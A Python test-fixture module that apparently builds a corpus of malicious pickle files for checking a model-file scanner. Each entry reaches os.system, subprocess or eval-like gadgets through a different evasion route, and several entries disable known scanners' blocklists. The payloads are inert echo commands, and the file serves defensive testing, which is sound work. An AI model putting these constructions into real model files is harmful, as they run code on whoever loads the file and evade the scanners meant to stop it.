"""Routes inside one pickle: how a callable is named, how it is called, and which callables no list knows."""

from __future__ import annotations

from typing import TYPE_CHECKING

from route import Route

from build import pickles as p

if TYPE_CHECKING:
    from collections.abc import Mapping

NAME = "model.pkl"
SYSTEM = p.global_("os", "system")
INERT = p.text("echo inert")
CALL = INERT + b"\x85R"
"""Calls what lies on the stack with one inert argument."""
EVIL = p.proto(2) + SYSTEM + CALL + p.STOP
"""The plain attack that the routes of other files wrap. Its opcodes are those of several protocols."""


def put(key: int) -> bytes:
    return b"q" + bytes([key])


def get(key: int) -> bytes:
    return b"h" + bytes([key])


def looked_up(owner: bytes, name: str) -> bytes:
    """The attribute of what `owner` leaves on the stack."""
    return p.global_("builtins", "getattr") + b"(" + owner + p.text(name) + b"tR"


def item(owner: bytes, key: str) -> bytes:
    """What the method `get` of a mapping gives."""
    return looked_up(owner, "get") + p.text(key) + b"\x85R"


def namespace(state: bytes) -> bytes:
    """An object of a harmless class with attributes of our choice: pairs of name and value."""
    return p.global_("argparse", "Namespace") + b")\x81}(" + state + b"ub"


def pickle(route: str, group: str, about: str, raw: bytes, reference: str = "CWE-502") -> Route:
    """One file, one pickle; what does not begin with an own PROTO gets protocol 4."""

    def files() -> Mapping[str, bytes]:
        return {NAME: raw}

    return Route(route, group, about, reference, files)


def v4(body: bytes) -> bytes:
    return p.proto(4) + body + p.STOP


GLOBALS = looked_up(p.global_("collections", "namedtuple"), "__globals__")
MODULES = looked_up(item(GLOBALS, "_sys"), "modules")

CALLABLES = [
    pickle("global", "callable", "the plain attack: GLOBAL and REDUCE", EVIL),
    pickle(
        "protocol-0",
        "callable",
        "the same in text, without PROTO",
        b"cos\nsystem\np0\n(S'echo inert'\np1\ntp2\nRp3\n.",
    ),
    pickle("inst", "callable", "INST names and calls in one opcode", b"(S'echo inert'\nios\nsystem\n."),
    pickle("stack-global", "callable", "STACK_GLOBAL of two texts", v4(p.stack_global("os", "system") + CALL)),
    pickle(
        "stack-global-strings",
        "callable",
        "STACK_GLOBAL of two strings of protocol 1",
        v4(b"U\x02osU\x06system\x93" + CALL),
    ),
    pickle(
        "escaped-text",
        "callable",
        "the module's name written with a \\u escape",
        b"V\\u006fs\nVsystem\n\x93" + CALL + b".",
    ),
    pickle(
        "escaped-string",
        "callable",
        "the module's name written with a \\x escape",
        b"S'\\x6fs'\nS'system'\n\x93" + CALL + b".",
    ),
    pickle(
        "memo",
        "callable",
        "both names from the memo, stored in two ways",
        v4(
            p.text("os") + put(5) + b"0" + p.text("system") + b"r\x09\0\0\0" + b"0" + get(5) + b"j\x09\0\0\0\x93" + CALL
        ),
        "picklescan#14",
    ),
    pickle(
        "memo-overwritten",
        "callable",
        "a key of the memo stored twice; the second value counts",
        v4(p.text("json") + put(0) + b"0" + p.text("os") + put(0) + b"0" + get(0) + p.text("system") + b"\x93" + CALL),
        "picklescan#22",
    ),
    pickle(
        "memo-text-keys",
        "callable",
        "keys of the memo as numbers with leading zeros",
        b"Vos\np007\n0Vsystem\np8\n0g7\ng008\n\x93" + CALL + b".",
    ),
    pickle(
        "memo-number",
        "callable",
        "MEMOIZE counts for itself, so that the key stands nowhere",
        v4(p.text("os") + b"\x94" + p.text("system") + b"\x940(1" + b"0" + get(0) + get(1) + b"\x93" + CALL),
    ),
    pickle(
        "dup-decoy",
        "callable",
        "DUP and POP between the names",
        v4(p.text("os") + p.text("path") + b"0" + p.text("system") + b"20\x93" + CALL),
    ),
    pickle(
        "pop-mark-decoy",
        "callable",
        "harmless names above a mark that is thrown away",
        v4(p.text("os") + p.text("system") + b"(" + p.text("json") + p.text("loads") + b"1\x93" + CALL),
    ),
    pickle(
        "computed-name",
        "callable",
        "the name is what a harmless call gives back",
        v4(p.text("os") + p.call("builtins", "str", p.text("system")) + b"\x93" + CALL),
    ),
    pickle(
        "extension",
        "callable",
        "EXT1: the name lies in the registry of the loader",
        v4(b"\x82\xf0" + CALL),
        "modelaudit#623",
    ),
    pickle(
        "extension-filled",
        "callable",
        "the same, and the file fills the registry first",
        v4(p.call("copyreg", "add_extension", p.text("os"), p.text("system"), b"K\xf0") + b"0\x82\xf0" + CALL),
        "modelaudit#623",
    ),
    pickle(
        "dotted-stdlib",
        "callable",
        "a dotted name through a harmless module: random._os.system",
        v4(p.stack_global("random", "_os.system") + CALL),
        "GHSA-5j3x-jp52-966f",
    ),
    pickle(
        "dotted-framework",
        "callable",
        "the same through torch.serialization",
        v4(p.stack_global("torch.serialization", "os.system") + CALL),
        "GHSA-5j3x-jp52-966f",
    ),
    pickle(
        "dotted-numpy",
        "callable",
        "the same with GLOBAL, through a module of numpy",
        v4(p.global_("numpy.lib.format", "os.system") + CALL),
        "modelscan#85",
    ),
    pickle(
        "dotted-globals",
        "callable",
        "__globals__ of a harmless function, asked for a module",
        v4(p.stack_global("collections", "namedtuple.__globals__.get") + p.text("_sys") + b"\x85R"),
    ),
    pickle(
        "python-2-eval",
        "callable",
        "a name of Python 2 that loaders translate: __builtin__.eval",
        p.proto(2) + p.global_("__builtin__", "eval") + p.text("0") + b"\x85R.",
    ),
    pickle(
        "python-2-commands",
        "callable",
        "the same: commands.getoutput",
        p.proto(2) + p.global_("commands", "getoutput") + CALL + b".",
    ),
    pickle(
        "python-2-url",
        "callable",
        "the same: urllib2.urlopen",
        p.proto(2) + p.global_("urllib2", "urlopen") + p.text("https://example.invalid/") + b"\x85R.",
        "CWE-918",
    ),
    pickle("alias-posix", "callable", "os.system by its other name, posix", v4(p.global_("posix", "system") + CALL)),
    pickle("alias-nt", "callable", "and by its name on Windows, nt", v4(p.global_("nt", "system") + CALL)),
    pickle(
        "getattr-import",
        "callable",
        "getattr of a module that import_module gave",
        v4(looked_up(p.call("importlib", "import_module", p.text("os")), "system") + CALL),
        "GHSA-q5qq-mvfm-j35x",
    ),
    pickle(
        "getattr-chain",
        "callable",
        "getattr in a chain, from a harmless function to os.system",
        v4(looked_up(item(MODULES, "os"), "system") + CALL),
    ),
    pickle(
        "attrgetter",
        "callable",
        "operator.attrgetter instead of getattr",
        v4(
            p.call("operator", "attrgetter", p.text("system"))
            + p.call("importlib", "import_module", p.text("os"))
            + b"\x85R"
            + CALL
        ),
        "GHSA-46h3-79wf-xr6c",
    ),
    pickle(
        "persistent-id",
        "callable",
        "a callable where a persistent id names the storage class",
        p.proto(2) + b"(" + p.text("storage") + SYSTEM + p.text("0") + p.text("cpu") + b"K\x01tQ.",
    ),
    Route(
        "sibling-module",
        "callable",
        "an import of Python code that lies beside the file",
        "CWE-829",
        lambda: {NAME: v4(p.global_("helper", "Net") + b")R"), "helper.py": b"import os\n\nos.system('echo inert')\n"},
    ),
]
CALLS = [
    pickle("newobj", "call", "NEWOBJ", v4(p.global_("subprocess", "Popen") + INERT + b"\x85\x81")),
    pickle("newobj-ex", "call", "NEWOBJ_EX with keywords", v4(p.global_("subprocess", "Popen") + INERT + b"\x85}\x92")),
    pickle("obj", "call", "OBJ", v4(b"(" + SYSTEM + INERT + b"o")),
    pickle("obj-popped", "call", "OBJ, its result dropped", v4(b"(" + SYSTEM + INERT + b"o0N"), "GHSA-mxhj-88fx-4pcv"),
    pickle("popped", "call", "REDUCE, its result dropped", v4(SYSTEM + CALL + b"0N")),
    pickle("popped-with-mark", "call", "the same with POP_MARK", v4(b"(" + SYSTEM + CALL + b"1N")),
    pickle("memo-only", "call", "the result stays in the memo alone", v4(SYSTEM + CALL + put(9) + b"0}")),
    pickle(
        "before-protocol",
        "call",
        "the call stands before the PROTO of an honest pickle",
        SYSTEM + CALL + b"0" + p.proto(4) + b"}.",
    ),
    pickle(
        "in-a-state",
        "call",
        "a call deep in the state of an object",
        v4(namespace(p.text("a") + b"](" + SYSTEM + CALL + b"e")),
    ),
    pickle("named-only", "call", "named, never called: the importer does", v4(SYSTEM)),
    pickle(
        "default-factory",
        "call",
        "a defaultdict that calls it at the first missing key",
        v4(p.call("collections", "defaultdict", p.global_("os", "getcwd"))),
    ),
    pickle(
        "build-function",
        "call",
        "BUILD changes the defaults of a function that others call",
        v4(p.global_("collections", "namedtuple") + b"N}" + p.text("__kwdefaults__") + b"}s\x86b"),
        "modelscan#330",
    ),
    pickle(
        "build-class",
        "call",
        "BUILD replaces a method of a harmless class",
        v4(p.global_("argparse", "Namespace") + b"N}" + p.text("__init__") + SYSTEM + b"s\x86b"),
        "modelscan#330",
    ),
    pickle(
        "append",
        "call",
        "APPEND on an object whose append is os.system",
        v4(namespace(p.text("append") + SYSTEM) + INERT + b"a"),
    ),
    pickle(
        "additems",
        "call",
        "ADDITEMS on an object whose add is os.system",
        v4(namespace(p.text("add") + SYSTEM) + b"(" + INERT + b"\x90"),
    ),
    pickle(
        "setitem-environment",
        "call",
        "SETITEM writes the environment",
        v4(p.global_("os", "environ") + p.text("LD_PRELOAD") + p.text("inert.so") + b"s"),
        "CWE-73",
    ),
    pickle(
        "setitem-modules",
        "call",
        "SETITEM replaces a module that was imported",
        v4(p.global_("sys", "modules") + p.text("json") + b"Ns"),
    ),
]


def gadget(named: str, about: str, reference: str, *arguments: bytes, tail: bytes = b"") -> Route:
    """One call with constants. `named` is `module:name`; with a dot instead of the colon it is the id."""
    module, _, name = named.partition(":")
    called = p.stack_global(module, name) + p.arguments(*arguments) + b"R"
    return pickle(f"{module}.{name}", "gadget", about, v4(called + tail), reference)


EVASION = "CVE-2026-56315"
"""One advisory for eight functions of seven modules."""
HELPERS = "GHSA-q5qq-mvfm-j35x"
GADGETS = [
    gadget("pip:main", "installs a package", "CVE-2025-1716", b"](" + p.text("install") + p.text("inert") + b"e"),
    gadget("pty:spawn", "a shell on a terminal", "GHSA-r7v6-mfhq-g3m2", INERT),
    gadget("runpy:run_path", "runs a file", "GHSA-wfq2-52f7-7qvj", p.text("inert.py")),
    gadget("cProfile:run", "runs source text", "GHSA-p523-jq9w-64x9", p.text("0")),
    gadget("ctypes:CDLL", "loads a native library", HELPERS, p.text("inert.so")),
    gadget("code:InteractiveInterpreter", "an interpreter", HELPERS),
    gadget("multiprocessing.util:spawnv_passfds", "starts a program", HELPERS, INERT, b"]", b")"),
    gadget("pydoc:locate", "imports by a text", "GHSA-5hvc-6wx8-mvv4", p.text("os.system"), tail=CALL),
    gadget("pkgutil:resolve_name", "imports by a text", "GHSA-vvpj-8cmc-gx39", p.text("os:system"), tail=CALL),
    pickle(
        "types.FunctionType",
        "gadget",
        "a function of marshalled code",
        v4(
            p.global_("types", "FunctionType") + b"(" + p.call("marshal", "loads", b"C\x05inert") + b"}t" + b"R" + b")R"
        ),
        "GHSA-565g-hwwr-4pp3",
    ),
    pickle(
        "builtins.__import__",
        "gadget",
        "a module as a value",
        v4(looked_up(p.call("builtins", "__import__", p.text("os")), "system") + CALL),
        "GHSA-h4rm-mm56-xf63",
    ),
    pickle(
        "operator.methodcaller",
        "gadget",
        "calls a method by its name",
        v4(
            p.call("operator", "methodcaller", p.text("system"), INERT)
            + p.call("pkgutil", "resolve_name", p.text("os"))
            + b"\x85R"
        ),
        "GHSA-955r-x9j8-7rhh",
    ),
    gadget("numpy.f2py.crackfortran:getlincoef", "evaluates source text", "GHSA-r8g5-cgf2-4m4m", p.text("0"), b"}"),
    gadget("numpy.testing._private.utils:runstring", "runs source text", "CWE-95", p.text("0"), b"}"),
    gadget("uuid:_get_command_stdout", "starts a program", EVASION, p.text("echo"), p.text("inert")),
    gadget("_osx_support:_read_output", "starts a program", EVASION, INERT),
    gadget("_aix_support:_read_cmd_output", "starts a program", EVASION, INERT),
    gadget("_pyrepl.pager:pipe_pager", "starts a program", EVASION, p.text("inert"), p.text("cat")),
    gadget("imaplib:IMAP4_stream", "starts a program", EVASION, INERT),
    gadget("test.support.script_helper:assert_python_ok", "starts Python", EVASION, p.text("-c"), p.text("0")),
    gadget(
        "distutils.file_util:write_file", "writes a file", "GHSA-m273-6v24-x4m4", p.text("inert"), b"](" + INERT + b"e"
    ),
    gadget(
        "asyncio.unix_events:_UnixSubprocessTransport._start",
        "a submodule of a listed package",
        "CVE-2025-10157",
        b"}",
        INERT,
        b"\x88",
        b"NNN",
        b"K\0",
    ),
    gadget("_interpreters:run_string", "another interpreter", "GHSA-6ggj-6f2q-f7mx", b"K\x01", p.text("0")),
    gadget("torch.utils.collect_env:run", "starts a program", "CWE-78", INERT),
    gadget("torch.jit.unsupported_tensor_ops:execWrapper", "runs source text", "CWE-95", p.text("0"), b"}", b"}"),
    gadget("torch._inductor.codecache:compile_file", "starts a compiler", "CWE-78", p.text("a"), p.text("b"), b"]"),
    gadget("cloudpickle.cloudpickle:subimport", "imports by a text", "CWE-502", p.text("inert")),
    gadget(
        "transformers.dynamic_module_utils:get_class_from_dynamic_module",
        "runs code of a repository",
        "CWE-829",
        p.text("inert.Net"),
        p.text("org/inert"),
    ),
    gadget(
        "hydra.utils:instantiate",
        "calls what a mapping names",
        "CWE-470",
        b"}" + p.text("_target_") + p.text("os.getcwd") + b"s",
    ),
    gadget("azure.identity:DefaultAzureCredential", "the machine's own identity", "CWE-522"),
    gadget("logging.config:dictConfig", "calls what a mapping names", "CWE-470", b"}" + p.text("version") + b"K\x01s"),
    pickle(
        "lookalike-letter",
        "gadget",
        "a package one letter from numpy",
        v4(p.global_("numpi", "ndarray") + b")R"),
        "CWE-829",
    ),
    pickle(
        "lookalike-script",
        "gadget",
        "numpy with a Cyrillic letter",
        v4(p.global_("nump\u0443", "ndarray") + b")R"),
        "CWE-829",
    ),
    pickle(
        "tamper-picklescan",
        "gadget",
        "clears the list of the scanner that reads it: picklescan",
        v4(p.stack_global("picklescan.scanner", "_unsafe_globals.clear") + b")R"),
        "CWE-693",
    ),
    pickle(
        "tamper-fickling",
        "gadget",
        "the same for fickling",
        v4(p.stack_global("fickling.analysis", "UnsafeImportsML.UNSAFE_MODULES.clear") + b")R"),
        "fickling#249",
    ),
    pickle(
        "tamper-modelscan",
        "gadget",
        "the same for modelscan",
        v4(p.stack_global("modelscan.settings", "DEFAULT_SETTINGS.clear") + b")R"),
        "CWE-693",
    ),
    pickle(
        "tamper-weighbridge",
        "gadget",
        "the same for this one",
        v4(p.stack_global("weighbridge.core.knowledge", "load_knowledge.__globals__.clear") + b")R"),
        "CWE-693",
    ),
]
ROUTES = [*CALLABLES, *CALLS, *GADGETS]
